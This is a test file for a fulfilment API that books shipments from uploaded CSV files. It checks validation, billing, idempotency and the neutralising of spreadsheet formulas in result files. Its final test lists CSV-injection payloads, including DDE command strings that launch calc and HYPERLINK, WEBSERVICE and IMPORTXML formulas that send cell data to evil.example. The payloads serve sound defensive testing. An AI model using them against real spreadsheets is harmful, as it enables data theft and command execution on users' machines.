import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { BATCH_CSV_COLUMNS } from '@lgw/fulfilment';
import {
  batchCsv,
  BATCH_HEADER,
  BatchRowInput,
  csvLine,
  generatedBatchLines,
  uploadBatch,
  validRow,
  waitForBatch,
} from '../support/batch-csv';
import { bootTestApp, TestApp, TestTeam } from '../support/test-app';
import { WITHOUT_BROWSER } from '../support/test-mode';
import { spreadsheetSafeCsvLine } from '@lgw/platform/csv/fast-csv.codec';

const BATCH_FIELDS = [
  'accepted_count',
  'created_at',
  'filename',
  'id',
  'phase',
  'processed_rows',
  'rejected_count',
  'rejection_csv',
  'rejection_csv_url',
  'result_csv',
  'result_csv_url',
  'row_count',
  'status',
];

/** RFC 4180 lines of a small CSV (the test's own reader, independent of the product's). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('fulfilment batches (docs/api.md §4 endpoints 14 and 15)', () => {
  let app: TestApp;
  let team: TestTeam;
  let other: TestTeam;

  beforeAll(async () => {
    // What is proven here is the batch; its labels wait for a browser instead of drawing some
    // 6,000 pages beside it (labels-merge proves a batch's labels).
    app = await bootTestApp({ worker: true, env: { ...WITHOUT_BROWSER } });
    team = await app.createTeam('Batch Team');
    other = await app.createTeam('Other Team');
    await app.admin('PUT', `/teams/${team.teamId}/rate-limit`, { per_minute: 100_000 });
  }, 60_000);

  afterAll(async () => {
    await app?.close();
  });

  const get = (path: string) => app.api(path, { key: team.apiKey });

  /** Batches recorded and file bytes stored, wherever this mode keeps them. */
  async function stored(): Promise<{ batches: number; files: number }> {
    const query = (sql: string) => app.runtime.database.dataSource.query(sql).then((r: any[]) => Number(r[0].n));
    const batches = await query('SELECT count(*)::int AS n FROM fulfilment_batches');
    if (app.runtime.database.mode === 'postgres') {
      return {
        batches,
        files:
          (await query('SELECT count(*)::int AS n FROM batch_files')) + (await query('SELECT count(*)::int AS n FROM batch_file_chunks')),
      };
    }
    const root = join(app.env.DATA_DIR, 'batches');
    const files = existsSync(root) ? readdirSync(root, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).length : 0;
    return { batches, files };
  }

  /** What is stored once the earlier batches' background work has written its last file. */
  async function settled(): Promise<{ batches: number; files: number }> {
    let last = await stored();
    for (let i = 0; i < 40; i++) {
      await new Promise((r) => setTimeout(r, 250));
      const now = await stored();
      if (now.batches === last.batches && now.files === last.files) return now;
      last = now;
    }
    return last;
  }

  it('books a valid file: 202 at once, then COMPLETED with tracking numbers, one per order, visible as shipments', async () => {
    const rows: BatchRowInput[] = [
      validRow(1, {
        recipient_name_ar: 'فاطمة الزهراء بنت محمد',
        recipient_name_latin: 'Fatimah "Zahra", Jr',
        notes: 'الباب الخلفي، بعد العصر',
      }),
      validRow(2),
      validRow(1, { sku: 'SKU-OTHER', qty: '2', recipient_name_ar: 'فاطمة الزهراء بنت محمد', recipient_name_latin: 'Fatimah "Zahra", Jr' }),
      validRow(3, { cod_amount_sar: '' }),
    ];
    const csv = batchCsv(rows, { bom: true, crlf: true });
    const submitted = await uploadBatch(app.url, team.apiKey, csv, { filename: 'طلبات-اليوم.csv' });
    expect(submitted.status).toBe(202);
    expect(Object.keys(submitted.body).sort()).toEqual(BATCH_FIELDS);
    expect(submitted.body).toMatchObject({
      status: 'PROCESSING',
      filename: 'طلبات-اليوم.csv',
      row_count: 0,
      accepted_count: 0,
      rejected_count: 0,
      result_csv: null,
      rejection_csv: null,
    });
    expect(new Date(submitted.body.created_at).toISOString()).toBe(submitted.body.created_at);

    const done = await waitForBatch(get, submitted.body.id);
    expect(done).toMatchObject({ status: 'COMPLETED', row_count: 4, accepted_count: 4, rejected_count: 0, rejection_csv: null });
    const result = parseCsv(done.result_csv);
    expect(result[0]).toEqual([...BATCH_CSV_COLUMNS, 'tracking_number', 'status']);
    expect(result).toHaveLength(5);
    const input = parseCsv(csv.replace(/^\ufeff/, ''));
    for (let i = 1; i < 5; i += 1) {
      // The original cells come back byte for byte (Arabic, quotes, commas included).
      expect(result[i].slice(0, 11)).toEqual(input[i]);
      expect(result[i][11]).toMatch(/\S/);
      expect(result[i][12]).toBe('CREATED');
    }
    expect(Buffer.from(done.result_csv, 'utf8').includes(Buffer.from('فاطمة الزهراء بنت محمد', 'utf8'))).toBe(true);
    // Rows 1 and 3 are one order: one tracking number; three orders, three numbers.
    expect(result[1][11]).toBe(result[3][11]);
    expect(new Set([result[1][11], result[2][11], result[4][11]]).size).toBe(3);

    const list = await get('/shipments?limit=100');
    const batchShipments = list.body.shipments.filter((s: any) => result.slice(1).some((r) => r[11] === s.tracking_number));
    expect(batchShipments).toHaveLength(3);
    for (const shipment of batchShipments) {
      expect(shipment.status).toBe('CREATED');
      expect(shipment.carrier.code).toBeDefined();
      expect(shipment.destination.country).toBe('SA');
      const tracking = await get(`/shipments/${shipment.id}/tracking`);
      expect(tracking.status).toBe(200);
      expect(tracking.body.tracking_number).toBe(shipment.tracking_number);
      expect(tracking.body.events.map((e: any) => e.code)).toContain('CREATED');
    }
    // Billed with the booking (ADR 0067): each shipment's line, and the COD fee of the COD order, on the invoice at COMPLETED.
    const invoice = (await get('/invoices/current')).body;
    for (const shipment of batchShipments) {
      const lines = invoice.line_items.filter((l: any) => l.shipment_id === shipment.id);
      expect(lines.map((l: any) => l.cause).sort()).toEqual(shipment.cod_amount_sar ? ['cod_fee', 'shipment'] : ['shipment']);
      expect(lines[0].tracking_number).toBe(shipment.tracking_number);
    }
    const carrierCodes = new Set(batchShipments.map((s: any) => s.carrier.code));
    const carriers = await get('/carriers');
    const csvBatch = carriers.body.carriers.find((c: any) => c.integration_type === 'csv_batch');
    expect([...carrierCodes]).toEqual([csvBatch.code]);

    const download = await fetch(`${app.url}/api/v1/fulfilment/batches/${done.id}/result.csv`, {
      headers: { authorization: `Bearer ${team.apiKey}` },
    });
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toMatch(/^text\/csv/);
    // A spreadsheet reads the Arabic names only when the file says it is UTF-8: a byte-order mark.
    const bytes = Buffer.from(await download.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(done.result_csv);
    expect((await get(`/fulfilment/batches/${done.id}/rejections.csv`)).status).toBe(404);

    // Another team sees nothing of it.
    for (const path of ['', '/result.csv', '/rejections.csv']) {
      const res = await app.api(`/fulfilment/batches/${done.id}${path}`, { key: other.apiKey });
      expect(res.status).toBe(404);
      expect(res.body.error.code).toBe('E_NOT_FOUND');
    }
    expect((await get('/fulfilment/batches/not-a-uuid')).status).toBe(404);
  }, 90_000);

  it('writes result_csv row for row as the CSV writer writes the original cells, a carrier-refused order REJECTED with no number', async () => {
    const refusedOrder = { order_ref: 'TEST_REFUSE_BOOKING' };
    const rows: BatchRowInput[] = [
      // Commas and quotes inside a cell; line feeds and tabs are refused (docs/api.md), not written back.
      validRow(41, { notes: 'first part; second part, "quoted"' }),
      validRow(41, { sku: 'SKU-2', notes: '=1+1' }),
      validRow(42, refusedOrder),
      validRow(43, { recipient_name_latin: 'Back\\slash \\n' }),
      validRow(42, { ...refusedOrder, sku: 'SKU-9' }),
      validRow(44, { notes: '@cmd' }),
    ];
    const csv = batchCsv(rows, { crlf: true });
    const submitted = await uploadBatch(app.url, team.apiKey, csv);
    const done = await waitForBatch(get, submitted.body.id);
    expect(done).toMatchObject({ status: 'COMPLETED', row_count: 6, accepted_count: 4, rejected_count: 2 });
    const result = parseCsv(done.result_csv);
    const input = parseCsv(csv);
    const numberOf = (orderRef: string) => result.find((r) => r[0] === orderRef)![11];
    const expected = [
      `${spreadsheetSafeCsvLine([...BATCH_CSV_COLUMNS, 'tracking_number', 'status'])}\n`,
      ...input.slice(1).map((cells) => {
        const number = cells[0] === 'TEST_REFUSE_BOOKING' ? '' : numberOf(cells[0]);
        return `${spreadsheetSafeCsvLine([...cells, number, number ? 'CREATED' : 'REJECTED'])}\n`;
      }),
    ].join('');
    expect(done.result_csv).toBe(expected);
    expect(numberOf(input[1][0])).toMatch(/\S/);
    expect(new Set([1, 4, 6].map((i) => numberOf(input[i][0]))).size).toBe(3);
  }, 90_000);

  it('bills nothing for a batch of a team in test mode (ADR 0060), live or test invoice', async () => {
    const csv = batchCsv([validRow(71), validRow(72), validRow(72, { sku: 'SKU-2' })]);
    const submitted = await uploadBatch(app.url, team.testApiKey, csv);
    expect(submitted.status).toBe(202);
    const done = await waitForBatch((path) => app.api(path, { key: team.testApiKey }), submitted.body.id);
    expect(done).toMatchObject({ status: 'COMPLETED', row_count: 3, accepted_count: 3 });
    const numbers = parseCsv(done.result_csv)
      .slice(1)
      .map((r) => r[11]);
    for (const key of [team.apiKey, team.testApiKey]) {
      const invoice = await app.api('/invoices/current', { key });
      expect(invoice.status).toBe(200);
      for (const n of numbers) expect(JSON.stringify(invoice.body)).not.toContain(n);
    }
  }, 90_000);

  it("collects an order's cash on delivery once: rows repeat its amount or leave it empty, never added up; a row with another amount is refused", async () => {
    // Two rows of 6,000 were one shipment collecting 12,000 (past the 10,000 ceiling); 2 × 150 printed 300 on the label.
    const valid: BatchRowInput[] = [
      validRow(41, { cod_amount_sar: '6000' }),
      validRow(41, { cod_amount_sar: '6000.00', sku: 'SKU-B' }),
      validRow(43, { cod_amount_sar: '' }),
      validRow(43, { cod_amount_sar: '150', sku: 'SKU-C' }),
      validRow(43, { cod_amount_sar: '150', sku: 'SKU-D' }),
    ];
    const done = await waitForBatch(get, (await uploadBatch(app.url, team.apiKey, batchCsv(valid))).body.id);
    expect(done).toMatchObject({ status: 'COMPLETED', accepted_count: 5 });
    const result = parseCsv(done.result_csv);
    const numbers = new Map(result.slice(1).map((r) => [r[0], r[11]]));
    const list = (await get('/shipments?limit=100')).body.shipments as any[];
    const shipmentOf = (orderRef: string) => list.find((s) => s.tracking_number === numbers.get(orderRef));
    expect(shipmentOf(validRow(41).order_ref!).cod_amount_sar).toBe(6000);
    expect(shipmentOf(validRow(43).order_ref!).cod_amount_sar).toBe(150);

    const disagreeing: BatchRowInput[] = [
      validRow(45, { cod_amount_sar: '' }),
      validRow(45, { cod_amount_sar: '150', sku: 'SKU-B' }),
      validRow(45, { cod_amount_sar: '200', sku: 'SKU-C' }),
      validRow(46, { cod_amount_sar: '10000.01' }),
    ];
    const refused = await waitForBatch(get, (await uploadBatch(app.url, team.apiKey, batchCsv(disagreeing))).body.id);
    expect(refused).toMatchObject({ status: 'REJECTED', accepted_count: 0, rejected_count: 2 });
    const lines = parseCsv(refused.rejection_csv).slice(1);
    expect(lines.map(([row, field]) => `${row}:${field}`)).toEqual(['3:cod_amount_sar', '4:cod_amount_sar']);
    expect(lines[0][3]).toBe(
      'must be empty or 150.00, the cash on delivery row 2 states for the same order_ref (one amount per order, never added up)',
    );
    expect(lines[0][2]).toMatch(/[\u0600-\u06ff]/);
    expect(lines[1][3]).toBe('must be at most 10000');
  }, 90_000);

  it('refuses a tab or a quoted line feed in a cell (docs/api.md): nothing reaches the carrier or the result file', async () => {
    const rows: BatchRowInput[] = [
      validRow(51, { order_ref: 'O\t9' }),
      validRow(52, { order_ref: 'O\n13' }),
      validRow(53, { notes: 'ring\r\ntwice' }),
      validRow(54, { recipient_name_latin: 'Tab\tName' }),
    ];
    const csv = batchCsv(rows);
    expect(csv).toContain('"O\n13"');
    const done = await waitForBatch(get, (await uploadBatch(app.url, team.apiKey, csv)).body.id);
    expect(done).toMatchObject({ status: 'REJECTED', row_count: 4, accepted_count: 0, rejected_count: 4, result_csv: null });
    const lines = parseCsv(done.rejection_csv).slice(1);
    expect(lines.map(([row, field]) => `${row}:${field}`)).toEqual(['1:order_ref', '2:order_ref', '3:notes', '4:recipient_name_latin']);
    for (const line of lines) expect(line[3]).toBe('must not contain control characters');
  }, 60_000);

  it('rejects the whole file listing every failed field of every row, with bilingual reasons', async () => {
    const rows: BatchRowInput[] = [
      validRow(1),
      validRow(2, { order_ref: '' }),
      validRow(3, { phone: '0551234567' }),
      validRow(4, { city: '' }),
      validRow(5, { short_address: 'RRR2929' }),
      validRow(6, { sku: '' }),
      validRow(7, { qty: '0' }),
      validRow(8, { qty: '1.5' }),
      validRow(9, { recipient_name_ar: 'Mohammed' }),
      validRow(10, { cod_amount_sar: '-5' }),
      validRow(11, { cod_amount_sar: 'abc', qty: '' }),
      validRow(1, { phone: '966599999999', short_address: 'JEDA1234' }),
    ];
    const submitted = await uploadBatch(app.url, team.apiKey, batchCsv(rows));
    expect(submitted.status).toBe(202);
    const done = await waitForBatch(get, submitted.body.id);
    expect(done).toMatchObject({ status: 'REJECTED', row_count: 12, accepted_count: 0, rejected_count: 11, result_csv: null });
    const lines = parseCsv(done.rejection_csv);
    expect(lines[0]).toEqual(['row_number', 'field', 'reason_ar', 'reason_en']);
    const failed = lines.slice(1).map(([row, field]) => `${row}:${field}`);
    expect(failed).toEqual([
      '2:order_ref',
      '3:phone',
      '4:city',
      '5:short_address',
      '6:sku',
      '7:qty',
      '8:qty',
      '9:recipient_name_ar',
      '10:cod_amount_sar',
      '11:qty',
      '11:cod_amount_sar',
      '12:phone',
      '12:short_address',
    ]);
    for (const [, , ar, en] of lines.slice(1)) {
      expect(ar).toMatch(/[\u0600-\u06ff]/);
      expect(en).toMatch(/^[ -~]+$/);
    }
    expect(lines.find(([row]) => row === '12')?.[3]).toBe('must match row 1 of the same order_ref');
    const download = await fetch(`${app.url}/api/v1/fulfilment/batches/${done.id}/rejections.csv`, {
      headers: { authorization: `Bearer ${team.apiKey}` },
    });
    expect(download.status).toBe(200);
    const bytes = Buffer.from(await download.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(done.rejection_csv);
    expect((await get(`/fulfilment/batches/${done.id}/result.csv`)).status).toBe(404);
  }, 60_000);

  it.each([
    ['an empty file', Buffer.alloc(0), /empty/],
    ['a wrong header', Buffer.from(`${BATCH_HEADER.replace('phone', 'mobile')}\nx\n`), /column 4 must be phone, found "mobile"/],
    ['a missing column', Buffer.from(`${BATCH_HEADER.replace(',notes', '')}\nx\n`), /missing column notes/],
    [
      'columns out of order',
      Buffer.from(`recipient_name_ar,order_ref${BATCH_HEADER.slice(BATCH_HEADER.indexOf(',', 'order_ref,'.length))}\nx\n`),
      /column 1 must be order_ref/,
    ],
    ['a binary file', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00]), Buffer.alloc(100, 7)]), /binary/],
    ['a Latin-1 file', Buffer.from(`${BATCH_HEADER}\nORD-1,Jos\xe9,x,966512345678,Riyadh,,RRRD2929,S,1,,\n`, 'latin1'), /not UTF-8/],
    ['a header with no rows', Buffer.from(`${BATCH_HEADER}\r\n`), /no data rows/],
  ])('refuses %s at upload with 422 naming the problem, and keeps nothing', async (_name, content, reason) => {
    const before = await settled();
    const res = await uploadBatch(app.url, team.apiKey, content);
    expect(await stored()).toEqual(before);
    expect(res.status).toBe(422);
    expect(res.body.error).toMatchObject({ code: 'E_VALIDATION', details: { field: 'file' } });
    expect(res.body.error.details.reason).toMatch(reason);
    expect(res.body.error.details.reason_ar).toMatch(/[\u0600-\u06ff]/);
  });

  it('refuses a file over 50 MB with 413 and the envelope, keeping nothing', async () => {
    const line = Buffer.from(`${csvLine(validRow(1))}\n`);
    const big = Buffer.concat([Buffer.from(`${BATCH_HEADER}\n`), Buffer.alloc(51 * 1024 * 1024 - line.length, line)]);
    const before = await settled();
    const res = await uploadBatch(app.url, team.apiKey, big);
    expect(res.status).toBe(413);
    expect(res.body.error).toMatchObject({ code: 'E_PAYLOAD_TOO_LARGE', details: { field: 'file', max_bytes: 50 * 1024 * 1024 } });
    expect(res.body.error.message_ar).toMatch(/[\u0600-\u06ff]/);
    expect(await stored()).toEqual(before);
  }, 60_000);

  it('reports a row with the wrong number of cells, and a quote never closed, on field "row"', async () => {
    const csv = `${BATCH_HEADER}\n${csvLine(validRow(1))}\n${csvLine(validRow(2))},extra\n${csvLine(validRow(3))}\n"ORD-4,unterminated\n`;
    const submitted = await uploadBatch(app.url, team.apiKey, csv);
    expect(submitted.status).toBe(202);
    const done = await waitForBatch(get, submitted.body.id);
    expect(done.status).toBe('REJECTED');
    const lines = parseCsv(done.rejection_csv).slice(1);
    expect(lines[0].slice(0, 2)).toEqual(['2', 'row']);
    expect(lines.every(([, field]) => field === 'row')).toBe(true);
  }, 60_000);

  it('refuses a form without the file field, and a body that is not multipart', async () => {
    const res = await uploadBatch(app.url, team.apiKey, batchCsv([validRow(1)]), { field: 'attachment' });
    expect(res.status).toBe(422);
    expect(res.body.error.details).toMatchObject({ field: 'file' });
    const json = await app.api('/fulfilment/batches', { method: 'POST', key: team.apiKey, body: { file: 'x' } });
    expect(json.status).toBe(422);
  });

  it('honours Idempotency-Key: the same file again answers the first batch; another file is refused', async () => {
    const csv = batchCsv([validRow(41), validRow(42)]);
    const first = await uploadBatch(app.url, team.apiKey, csv, { idempotencyKey: 'batch-key-1' });
    const again = await uploadBatch(app.url, team.apiKey, csv, { idempotencyKey: 'batch-key-1' });
    expect(first.status).toBe(202);
    expect(again.status).toBe(202);
    expect(again.body).toEqual(first.body);
    const done = await waitForBatch(get, first.body.id);
    expect(done.status).toBe('COMPLETED');
    const before = await settled();
    const different = await uploadBatch(app.url, team.apiKey, batchCsv([validRow(43)]), { idempotencyKey: 'batch-key-1' });
    expect(await stored()).toEqual(before);
    expect(different.status).toBe(422);
    expect(different.body.error.code).toBe('E_IDEMPOTENCY_MISMATCH');
  }, 60_000);

  it('completes a 20,000-row file, reporting progress while it runs', async () => {
    const csv = [...generatedBatchLines(20_000)].join('');
    const submitted = await uploadBatch(app.url, team.apiKey, csv);
    expect(submitted.status).toBe(202);
    const seen = new Set<string>();
    // How fast a batch goes is for bench/ (bench:batches); this waits long enough for a slow CI
    // host whose cores the other workers share (it took more than 180 s there once).
    const deadline = Date.now() + 540_000;
    let batch = submitted.body;
    while (batch.status === 'PROCESSING' && Date.now() < deadline) {
      if (batch.processed_rows > 0) seen.add(batch.phase);
      await new Promise((r) => setTimeout(r, 100));
      batch = (await get(`/fulfilment/batches/${submitted.body.id}`)).body;
    }
    expect(batch).toMatchObject({ status: 'COMPLETED', row_count: 20_000, accepted_count: 20_000, rejected_count: 0 });
    expect(seen.size).toBeGreaterThan(0);
    const result = parseCsv(batch.result_csv);
    expect(result).toHaveLength(20_001);
    const byOrder = new Map<string, Set<string>>();
    for (const row of result.slice(1)) byOrder.set(row[0], (byOrder.get(row[0]) ?? new Set()).add(row[11]));
    for (const numbers of byOrder.values()) expect(numbers.size).toBe(1);
    const all = [...byOrder.values()].map((s) => [...s][0]);
    expect(new Set(all).size).toBe(byOrder.size);
  }, 600_000);

  it('writes no cell a spreadsheet would evaluate into result_csv, and every cell stays recoverable (ADR 0037)', async () => {
    const payloads = [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
      '=SUM(1+1)',
      '=1+1',
      '+1+1',
      '+SUM(A1:A2)',
      '-2+3',
      '-SUM(A1)',
      '@SUM(1,1)',
      '@cmd',
      '=IMPORTXML("http://evil.example","//a")',
      '=DDE("cmd";"/C calc";"!A0")',
      '=WEBSERVICE("http://evil.example")',
      "+cmd|' /C notepad'!A0",
      "-cmd|' /C calc'!A0",
      '@HYPERLINK("http://evil.example")',
      '=A1*2',
      '=INDIRECT("A1")',
      '=CONCATENATE(A1,B1)',
      '+HYPERLINK("http://evil.example")',
      '-1+HYPERLINK("x")',
      '=2*3',
      '@A1',
      "'=already quoted",
      '=MAX(1,2)',
    ];
    expect(payloads).toHaveLength(25);
    const rows = payloads.map((p, i) =>
      validRow(9000 + i, {
        order_ref: i % 3 === 0 ? p.slice(0, 64) : `FORMULA-${i}`,
        recipient_name_latin: p,
        sku: i % 2 === 0 ? p.slice(0, 64) : `SKU-${i}`,
        notes: i % 5 === 0 ? `${p} ` : p,
      }),
    );
    const csv = batchCsv(rows);
    const submitted = await uploadBatch(app.url, team.apiKey, csv);
    expect(submitted.status).toBe(202);
    const done = await waitForBatch(get, submitted.body.id);
    expect(done).toMatchObject({ status: 'COMPLETED', row_count: 25, accepted_count: 25 });
    const result = parseCsv(done.result_csv);
    const input = parseCsv(csv);
    let neutralised = 0;
    for (let i = 1; i < result.length; i += 1) {
      for (const [c, cell] of result[i].entries()) {
        // No cell starts the way a spreadsheet evaluates, unless it is a plain number.
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
        if (c < BATCH_CSV_COLUMNS.length) {
          // Recoverable: drop one leading quote from a cell matching /^'+[=+\-@\t\r]/ (docs/api.md).
          expect(cell.replace(/^'(?='*[=+\-@\t\r])/, '')).toBe(input[i][c]);
          if (cell !== input[i][c]) neutralised += 1;
        }
      }
    }
    expect(neutralised).toBeGreaterThanOrEqual(25 * 2);
    // Neutralised cells are also quoted in the file.
    expect(done.result_csv).toContain(`"'=cmd|' /C calc'!A0"`);
    // The API itself keeps the value as sent: the shipment's reference is the order_ref.
    const listed = await get(`/shipments?limit=100`);
    expect(listed.body.shipments.map((s: any) => s.reference)).toEqual(expect.arrayContaining(["=cmd|' /C calc'!A0", '-2+3']));
  }, 60_000);
});
